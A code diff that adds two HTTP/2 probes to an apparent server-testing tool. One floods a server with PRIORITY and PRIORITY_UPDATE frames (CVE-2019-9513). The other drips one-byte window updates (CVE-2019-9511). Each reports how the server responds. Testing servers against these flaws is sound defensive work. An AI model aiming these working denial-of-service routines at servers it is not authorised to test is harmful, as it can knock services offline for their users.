@@ -19,6 +19,9 @@ Commands:
   zero-window PATH              a window of 0, never opened (CVE-2019-9517): how long the
                                 server keeps the connection
   too-many-streams N PATH       N streams at once, none finished by the peer
+  priority-flood N              N PRIORITY and PRIORITY_UPDATE frames (CVE-2019-9513)
+  data-dribble N PATH           a window of 0, then N WINDOW_UPDATEs of one byte each
+                                (CVE-2019-9511): the DATA bytes that came of it
   idle SECONDS                  a connection that asks for nothing: how long the server
                                 keeps it, and how it ends it
 """
@@ -368,6 +371,33 @@ def too_many_streams(host, port, tls, n, path):
     return frames.report(refused=sum(1 for c in frames.resets.values() if c == "REFUSED_STREAM"))
 
 
+def priority_flood(host, port, tls, n):
+    sock, frames = open_raw(host, port, tls)
+    enc = hpack.Encoder()
+    data = bytearray(frame(HEADERS, END_HEADERS, 1, request_block(enc, "/", "POST")))
+    for i in range(n):
+        if i % 2:
+            # PRIORITY_UPDATE (RFC 9218) for stream 1: urgency 0..7 in turn.
+            data += frame(0x10, 0, 0, struct.pack(">I", 1) + f"u={i % 8}".encode())
+        else:
+            # An RFC 7540 PRIORITY for another, idle stream.
+            data += frame(PRIORITY, 0, 3 + 2 * (i % 1000), struct.pack(">IB", 1, 16))
+    sent = send_all(sock, frames, bytes(data))
+    frames.drain(5)
+    return frames.report(sent_bytes=sent, total_bytes=len(data))
+
+
+def data_dribble(host, port, tls, n, path):
+    sock, frames = open_raw(host, port, tls, struct.pack(">HI", 0x4, 0))
+    enc = hpack.Encoder()
+    sock.sendall(frame(HEADERS, END_STREAM | END_HEADERS, 1, request_block(enc, path)))
+    data = frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)) * n
+    sent = send_all(sock, frames, data)
+    frames.drain(3)
+    return frames.report(sent_bytes=sent, data_bytes=frames.data.get(1, 0),
+                         data_frames=frames.counts.get(DATA, 0))
+
+
 def idle(host, port, tls, seconds):
     sock, frames = open_raw(host, port, tls)
     start = time.monotonic()
@@ -402,6 +432,10 @@ def main(argv):
         result = zero_window(host, port, tls, rest[0])
     elif command == "too-many-streams":
         result = too_many_streams(host, port, tls, int(rest[0]), rest[1])
+    elif command == "priority-flood":
+        result = priority_flood(host, port, tls, int(rest[0]))
+    elif command == "data-dribble":
+        result = data_dribble(host, port, tls, int(rest[0]), rest[1])
     elif command == "idle":
         result = idle(host, port, tls, float(rest[0]))
     else:
